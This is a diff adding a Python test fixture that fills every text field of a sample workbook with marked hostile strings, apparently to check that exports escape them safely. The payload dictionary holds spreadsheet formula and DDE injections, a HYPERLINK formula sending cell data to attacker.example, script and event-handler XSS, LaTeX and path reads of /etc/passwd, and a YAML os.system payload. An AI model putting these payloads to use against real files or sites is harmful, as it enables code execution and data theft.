@@ -1,0 +1,85 @@
+"""Hostile texts, and a small book that holds one in every text field, each with a mark to find it by."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Callable
+from dataclasses import dataclass, replace
+from typing import Any
+
+from appraisal.case import Basis
+from appraisal.workbook import Book, book_of
+from appraisal.workbook.book import Entries
+from appraisal.workbook.schema import Cell, Section, StatementRow
+from tests.workbook.builders import small_book
+
+HOSTILE = {
+    "formula": "=1+1",
+    "plus": "+44 20 7946 0000",
+    "minus": "-2+3+cmd",
+    "at": "@SUM(1+1)*cmd",
+    "DDE": "=cmd|'/c calc'!A0",
+    "link formula": '=HYPERLINK("https://attacker.example/?x="&A1,"Click")',
+    "HTML tag": "</td></table><h1>Bold</h1><b>not bold</b>",
+    "script": "</script><script>alert(1)</script>",
+    "event attribute": '" onmouseover="alert(1)" x="<img src=x onerror=alert(1)>',
+    "comment and entity": "<!-- hidden --> &lt;b&gt; &#x3c;i&#x3e; &amp;amp;",
+    "markdown image": "![pixel](https://attacker.example/p.png)",
+    "markdown link": "[click](javascript:alert(1)) <https://attacker.example>",
+    "markdown blocks": "# Heading\n- item\n1. one\n| a | b |\n|---|---|\n> quoted\n```\ncode",
+    "Jinja": "{{7*7}}{% for x in y %}{# note #}",
+    "Typst": '#import "@preview/x:1.0.0" #eval("1+1") #panic() $sum_i$ = Heading <label> @ref',
+    "LaTeX": "\\input{/etc/passwd} \\write18{calc} ^^M %",
+    "maths": "$x^2$ and $$\\frac{1}{2}$$ and \\(y\\)",
+    "path": "../../etc/passwd",
+    "Windows path": "C:\\Windows\\System32\\calc.exe \\\\server\\share",
+    "long word": "W" * 300,
+    "nothing": "null None NaN undefined #N/A 0x00 \\0",
+    "CSV break-out": 'a","b\n=2+2,"c;d',
+    "JSON break-out": '"}],"numbers":{"x":1}} </script> \\u0022',
+    "YAML break-out": "---\n!!python/object/apply:os.system ['calc']\n&a *a : ] }",
+    "terminal markup": "[red]not red[/red] [link=https://attacker.example]x[/link] <r><t>rich</t></r>",
+}
+
+
+def text_fields(entries: Entries) -> list[str]:
+    return [name for name, column in entries.sheet.columns.items() if column.cell is Cell.TEXT]
+
+
+@dataclass(frozen=True)
+class Spread:
+    """A book with a marked text in every text field. `texts` gives each by its mark, `strings` the name of each one's
+    hostile string."""
+
+    book: Book
+    texts: dict[str, str]
+    strings: dict[str, str]
+
+
+def spread(change: Callable[[str], str]) -> Spread:
+    """Return the small book with a hostile string, put through `change`, and a mark in every text field of every row.
+
+    The narrative also gets a statement of its own for each string.
+    """
+    texts: dict[str, str] = {}
+    strings: dict[str, str] = {}
+
+    def next_text() -> str:
+        name, string = list(HOSTILE.items())[len(texts) % len(HOSTILE)]
+        mark = f"zq{len(texts):03}"
+        texts[mark], strings[mark] = f"{change(string)} {mark}", name
+        return texts[mark]
+
+    rows: list[Any] = []
+    for entries in small_book().entries:
+        written_anew: list[Any] = list(entries.rows)
+        rows += [replace(row, **{name: next_text() for name in text_fields(entries)}) for row in written_anew]
+    for _ in HOSTILE:
+        said, source = next_text(), next_text()
+        rows.append(StatementRow(section=Section.BACKGROUND, text=said, basis=Basis.PUBLISHED, source=source))
+    return Spread(book_of(*rows), texts, strings)
+
+
+def harmless(text: str) -> str:
+    """Return a text as long, with as many words and lines, of letters and figures alone."""
+    return re.sub(r"[^A-Za-z0-9\s]", "x", text)
